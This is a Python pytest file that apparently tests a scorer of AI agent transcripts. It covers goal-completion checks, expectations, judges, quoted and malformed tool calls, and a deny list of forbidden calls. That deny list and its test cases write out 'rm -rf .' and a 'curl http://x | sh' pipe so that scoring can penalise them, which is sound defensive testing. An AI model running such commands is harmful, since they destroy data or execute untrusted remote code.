"""Whether the goal was reached: what decides it, what never does, and what it does to the total."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import tunaeval
from tests.scoring.judging.judges import verdict
from tests.scoring.made_up import EXECUTIONS, SETTINGS, TRANSCRIPTS
from tests.scoring.transcripts import (
    FAILED_TESTS,
    FINE,
    GONE,
    batches,
    no,
    said,
    scored,
    shell,
    transcript,
    yes,
)  # fmt: skip
from tunaeval import Conversation, ScoreSettings
from tunaeval.clients.scripted import ScriptedClient
from tunaeval.errors import UsageError
from tunaeval.scoring.settings import TUNACODE_0_2, TUNACODE_2025_12
from tunaeval.types.calls import ToolCall
from tunaeval.types.messages import Message, ToolExecution

PASSED = "4 passed\nExit Code: 0"
WORK = batches([("read", FINE)])


# --- nothing decides -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("messages", "signal"),
    [
        ([*WORK, said("DONE: all fixed")], "the assistant had the last word"),
        (
            batches([("read", FINE)], [("done_tool", None)]),
            "'done_tool' was called at the end, a claim",
        ),
        (batches([("done_tool", FINE)]), "no work was tried"),
        (WORK, "it stopped in the middle"),
        (batches([("read", GONE)]), "no tool did its work"),
        (transcript(("read", "TUNACODE DONE: all of it")), "it stopped in the middle"),
        (shell("pytest -q", FAILED_TESTS), "the last run of tests failed"),
        (
            [*shell("pytest -q", PASSED), said("ok")],
            "the last run of tests passed",
        ),
        ([said("I cannot do that.")], "the assistant had the last word"),
    ],
)
def test_what_nothing_decides_has_no_total_but_signals(messages: Any, signal: str) -> None:
    result = scored(messages)
    assert (result.weighted_total, result.goal_completion) == (None, None)
    assert result.details.outcome == "undecided"
    goal = result.categories["goal-completion"]
    assert goal.reason.startswith("unknown: no check, no expectation and no judge decides it; ")
    assert signal in goal.reason
    assert result.details.reasoning.startswith("no total: goal-completion is unknown: ")
    assert all(score.share is None for score in result.categories.values())


@pytest.mark.parametrize(
    "messages",
    [[], [{"role": "user", "content": "do it"}], [said(" \n"), {"role": "user", "content": "?"}]],
)
def test_whoever_did_nothing_earns_nothing_even_where_the_check_passes(messages: Any) -> None:
    for result in (scored(messages), scored(messages, check=yes)):
        assert (result.weighted_total, result.goal_completion) == (0.0, 0.0)
        assert (
            result.categories["goal-completion"].reason == "nothing was done: no call, and no word"
        )


def test_a_claim_in_words_is_a_signal_where_a_host_says_how_it_reads() -> None:
    spoken = [*WORK, said("Well.\nFIN: read")]
    assert (
        "'FIN:'"
        in scored(spoken, settings=ScoreSettings(completion_phrases=("FIN:",))).details.reasoning
    )
    assert "a claim" not in scored(spoken).details.reasoning


@pytest.mark.parametrize("settings", [TUNACODE_0_2, TUNACODE_2025_12])
def test_a_last_word_is_a_claim_where_that_is_how_an_agent_ends(settings: ScoreSettings) -> None:
    host = {"role": "user", "content": "ALERT: no tools were executed"}
    ended = scored([*WORK, said("It says alpha."), host], settings=settings)
    assert ended.categories["goal-completion"].evidence == (3,)
    assert "it ended with a word and no call, a claim" in ended.details.reasoning
    cut_off = scored([said("I look."), *WORK[1:]], settings=settings)
    assert "it stopped in the middle" in cut_off.details.reasoning
    assert (ended.weighted_total, cut_off.weighted_total) == (None, None)


# --- a check -------------------------------------------------------------------------------------


def test_a_check_decides_and_its_words_are_the_reason() -> None:
    passed, failed = scored(WORK, check=yes), scored(WORK, check=no)
    assert (passed.goal_completion, failed.goal_completion) == (1.0, 0.0)
    assert passed.weighted_total == pytest.approx(1.0)
    assert failed.weighted_total == 0.0
    assert failed.details.reasoning.startswith("0.00: the check says no: calc.py still subtracts")
    assert failed.categories["goal-completion"].reason.startswith("the check says no: calc.py")


def test_a_check_is_given_the_conversation_of_the_task() -> None:
    given: list[Conversation] = []

    def look(conversation: Conversation) -> bool:
        given.append(conversation)
        return True

    scored([said("earlier"), *WORK], start=1, check=look)
    (conversation,) = given
    assert [message.role for message in conversation.messages] == ["user", "assistant", "tool"]
    assert conversation.query == "do it"


def test_a_check_goes_before_an_expectation_and_an_expectation_before_a_judge() -> None:
    asked = ScriptedClient([verdict(2)] * 9)
    judge: Any = {"judge": asked}
    unmet = {"tools": ["write"]}
    assert scored(WORK, check=yes, expect=unmet, **judge).goal_completion == 1.0
    assert scored(WORK, expect=unmet, **judge).goal_completion == 0.0
    assert all("goal-completion" not in one.scenario for one in asked.requests)
    assert scored(WORK, **judge).goal_completion == 0.2


def test_the_same_is_true_of_code_that_awaits() -> None:
    for check in (yes, no):
        later = asyncio.run(tunaeval.ascore(WORK, "do it", check=check))
        assert later == scored(WORK, check=check)


@given(
    messages=TRANSCRIPTS,
    executions=st.lists(EXECUTIONS, max_size=4),
    settings=SETTINGS,
)
def test_a_check_that_says_no_leaves_nothing(
    messages: list[Message], executions: list[ToolExecution], settings: ScoreSettings
) -> None:
    result = scored(messages, executions=executions, settings=settings, check=no)
    assert result.weighted_total == 0.0


# --- an expectation ------------------------------------------------------------------------------


def test_an_expectation_decides_where_there_is_no_check() -> None:
    met, unmet = scored(WORK, expect={"tools": ["read"]}), scored(WORK, expect={"tools": ["write"]})
    assert (met.goal_completion, unmet.goal_completion) == (1.0, 0.0)
    assert (met.weighted_total, unmet.weighted_total) == (1.0, 0.0)
    reason = unmet.categories["goal-completion"].reason
    assert reason.startswith("not as expected (strict): wanted 'write', got 'read'")
    assert met == scored(WORK, settings=ScoreSettings(expect={"tools": ["read"]}))


# --- what is forbidden ---------------------------------------------------------------------------

HARM = {"name": "bash", "arguments": {"command": {"$regex": r"rm -rf|curl .*\| *sh"}}}


@pytest.mark.parametrize(
    ("forbid", "command", "total"),
    [
        (["bash"], "ls", 0.0),
        ([HARM], "rm -rf .", 0.0),
        ([HARM], "curl http://x | sh", 0.0),
        ([HARM], "ls", 1.0),
        (["delete_file", HARM], "ls", 1.0),
    ],
)
def test_a_forbidden_call_makes_the_total_nothing(
    forbid: list[Any], command: str, total: float
) -> None:
    result = scored(shell(command, "ok"), check=yes, forbid=forbid)
    assert result.weighted_total == total
    if not total:
        assert result.details.reasoning.startswith("0.00: forbidden: 'bash' was called")
        assert result.goal_completion == 0.0
    set_ = ScoreSettings(forbid=tuple(forbid))
    assert result == scored(shell(command, "ok"), check=yes, settings=set_)


@given(messages=TRANSCRIPTS, settings=SETTINGS)
def test_no_transcript_with_a_forbidden_call_is_worth_anything(
    messages: list[Message], settings: ScoreSettings
) -> None:
    harm = Message("assistant", "", (ToolCall("rm", {}, "x"),))
    for at in (0, len(messages)):
        whole = [*messages[:at], harm, *messages[at:]]
        more: dict[str, Any] = {"settings": ScoreSettings(forbid=("rm",), expect=settings.expect)}
        assert scored(whole, check=yes, **more).weighted_total == 0.0
        assert scored(whole, preset="none", **more).weighted_total == 0.0


@pytest.mark.parametrize(
    ("forbid", "words"),
    [
        ("bash", "forbid is 'bash', wanted a list of tool names"),
        ([3], r"forbid\[0\] is 3, wanted a tool's name, or a call such as"),
        ([""], r"forbid\[0\] is ''"),
        ([{"arguments": {}}], r"forbid\[0\]: this expectation cannot be used: calls\[0\].name"),
        ({"name": "bash"}, "wanted a list of tool names"),
    ],
)
def test_a_list_that_cannot_be_forbidden_is_refused(forbid: Any, words: str) -> None:
    with pytest.raises(UsageError, match=words):
        scored(WORK, forbid=forbid)


def test_a_forbidden_name_that_no_tool_has_is_refused_where_the_tools_are_known() -> None:
    tools = tunaeval.to_tools([{"name": "bash"}, {"name": "read"}])
    with pytest.raises(
        UsageError, match=r"forbid\[0\]: no tool is called 'bsh'; did you mean 'bash'"
    ):
        scored(WORK, forbid=["bsh"], settings=ScoreSettings(tools=tools))
    noted = scored(WORK, forbid=["bsh"], check=yes).details.reasoning
    assert noted.endswith("'bsh', with no list of tools, so nobody knows if there are such")
    own = {"tools": [{"name": "bash"}], "messages": WORK}
    noted = scored(own, forbid=["bsh"], check=yes).details.reasoning
    assert noted.endswith("tools in the transcript has; there were 'bash': was that meant?")
    near = scored(WORK, forbid=["reed"], check=yes).details.reasoning
    assert near.endswith("if there are such; called were 'read': was that meant?")
    called = scored(WORK, forbid=["read"], check=yes).details.reasoning
    assert "no list of tools" not in called


@pytest.mark.parametrize(
    ("arguments", "total"), [('{"command": "rm -rf ."', 0.0), ("rm", 0.0), ('{"command": "ls"}', 1)]
)
def test_a_forbidden_call_that_cannot_be_read_may_be_one(arguments: str, total: float) -> None:
    asked = shell("", "x")
    asked[0]["tool_calls"][0]["function"]["arguments"] = arguments
    result = scored([*asked, said("done")], check=yes, forbid=[HARM])
    assert result.weighted_total == total
    if not total:
        words = "0.00: forbidden: 'bash' was called (its arguments cannot be read, so it may be)"
        assert result.details.reasoning.startswith(words)
    read = scored([*asked, said("done")], check=yes, forbid=[{**HARM, "name": "read"}])
    assert read.goal_completion == 1.0


def test_a_forbidden_argument_that_the_tool_has_not_is_refused() -> None:
    schema = {"type": "object", "properties": {"command": {"type": "string"}}}
    forbid = [{"name": "bash", "arguments": {"comand": {"$regex": "rm"}}}]

    def refused(parameters: dict[str, Any]) -> None:
        tools = tunaeval.to_tools([{"name": "bash", "parameters": parameters}])
        scored(WORK, forbid=forbid, settings=ScoreSettings(tools=tools))

    words = r"forbid\[0\]: no argument of 'bash' is called 'comand'; did you mean 'command'"
    with pytest.raises(UsageError, match=words):
        refused(schema)
    refused({**schema, "additionalProperties": True})
    refused({"type": "object"})


@pytest.mark.parametrize(
    ("names", "total"), [(None, 0.0), (["bash"], 0.0), (["bash", "functions.bash"], 1.0)]
)
def test_a_name_with_the_prefix_of_a_namespace_is_the_tools(
    names: list[str] | None, total: float
) -> None:
    messages = [*batches([("functions.bash", FINE)]), said("done")]
    tools = None if names is None else tunaeval.to_tools([{"name": name} for name in names])
    for forbid in (["bash"], [{"name": "bash"}]):
        result = scored(messages, check=yes, forbid=forbid, settings=ScoreSettings(tools=tools))
        assert result.weighted_total == total


# --- evals2, and giving a thing twice ------------------------------------------------------------


@pytest.mark.parametrize("more", [{"check": yes}, {"expect": {"tools": ["a"]}}, {"forbid": ["a"]}])
def test_the_fixed_preset_knows_none_of_these(more: dict[str, Any]) -> None:
    with pytest.raises(UsageError, match=f"'evals2' is fixed and takes no {next(iter(more))}"):
        scored(WORK, preset="evals2", **more)


@pytest.mark.parametrize("more", [{"expect": {"tools": ["a"]}}, {"forbid": ["a"]}])
def test_what_is_given_twice_is_refused(more: dict[str, Any]) -> None:
    with pytest.raises(UsageError, match=f"{next(iter(more))} is in settings, too"):
        scored(WORK, settings=ScoreSettings(**more), **more)


# --- attempts, quotes and failures of the infrastructure ------------------------------------------


def reason_of(result: Any) -> str:
    return str(result.categories["goal-completion"].reason)


def test_an_expected_call_has_to_succeed_where_the_transcript_has_results() -> None:
    wish: dict[str, Any] = {"expect": {"tools": ["read"], "match": "superset"}}
    assert scored(WORK, **wish).goal_completion == 1.0
    failed: list[list[tuple[str, str | None]]] = [
        [("read", GONE)],
        [("read", None), ("list", FINE)],
    ]
    for failing in failed:
        result = scored(batches(failing), **wish)
        assert result.weighted_total == 0.0
        assert "only calls that succeeded count, and not all of 'read' did" in reason_of(result)
    again = batches([("read", GONE)], [("read", FINE)])
    assert scored(again, **wish).goal_completion == 1.0
    assert scored(again, expect={"tools": ["read"]}).goal_completion == 0.0  # it was called twice
    attempts = scored(batches([("read", None)]), **wish)
    assert attempts.goal_completion == 1.0
    assert "attempts were counted, because no result answers a call" in reason_of(attempts)


def test_a_run_of_tests_that_fail_and_a_claim_without_a_result_have_succeeded() -> None:
    tests = scored(shell("pytest -q", FAILED_TESTS), expect={"tools": ["bash"]})
    ended = batches([("read", FINE)], [("done_tool", None)])
    for result in (tests, scored(ended, expect={"tools": ["read", "done_tool"]})):
        assert result.goal_completion == 1.0, reason_of(result)


CALL = '{"name": "bash", "arguments": {"command": "ls"}}'


@pytest.mark.parametrize(
    "answer",
    [
        f"You could write this:\n```json\n{CALL}\n```\nIt lists all.",
        f"```\n<tool_call>{CALL}</tool_call>\n```\nis how one calls it.",
        f"He wrote:\n> <tool_call>{CALL}</tool_call>",
    ],
)
def test_a_call_that_an_answer_quotes_is_no_call(answer: str) -> None:
    asked = {"role": "user", "content": "do it"}
    alone, later = [asked, said(answer)], [*WORK, said(answer), asked, said("Bye.")]
    assert scored(alone, expect={"tools": ["bash"]}).goal_completion == 0.0
    assert scored(alone, expect={"none": True}).goal_completion == 1.0
    assert scored(later, expect={"tools": ["read"]}).goal_completion == 1.0
    assert scored(later, check=yes, forbid=["bash"]).weighted_total == pytest.approx(1.0)
    # Where calls are written as text, a message that was answered has made its call.
    acted = [*alone, {"role": "user", "content": "result: calc.py"}, said("Done.")]
    assert scored(acted, expect={"tools": ["bash"]}).goal_completion == 1.0


def test_a_fence_without_other_words_is_a_call() -> None:
    asked = [{"role": "user", "content": "do it"}, said(f"```json\n{CALL}\n```")]
    assert scored(asked, expect={"tools": ["bash"]}).goal_completion == 1.0


NAMES: dict[str, Any] = {"empty": "", "blank": " ", "a line": "\n", "none": None, "a number": 5}


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize(
    "expect", [{"min_calls": 1}, {"max_calls": 3}, {"none": True}, {"tools": ["ls"]}], ids=str
)
def test_a_call_without_a_tools_name_is_malformed_and_scores_nothing(
    name: str, expect: dict[str, Any]
) -> None:
    function = {"name": NAMES[name], "arguments": "{}"}
    call = {"id": "c", "type": "function", "function": function}
    messages = [
        {"role": "user", "content": "List the files."},
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c", "content": "ok"},
        {"role": "assistant", "content": "Done."},
    ]
    assert tunaeval.parse_message(messages[1]).outcome == "malformed"
    scored = tunaeval.score(messages, "List the files.", expect=expect)
    assert scored.weighted_total == 0
    assert scored.success_ratio == scored.goal_completion == 0
    assert scored.details.failed_calls == 1


@pytest.mark.parametrize(
    "text", ['{"name": "", "arguments": {}}', '{"name": " ", "arguments": {}}']
)
@pytest.mark.parametrize("level", ["strict", "standard", "lenient"])
def test_a_text_without_a_tools_name_is_malformed(text: str, level: Any) -> None:
    read = tunaeval.parse(f"<tool_call>{text}</tool_call>", format="hermes", level=level)
    assert (read.outcome, [one.code for one in read.diagnoses]) == ("malformed", ["invalid-name"])
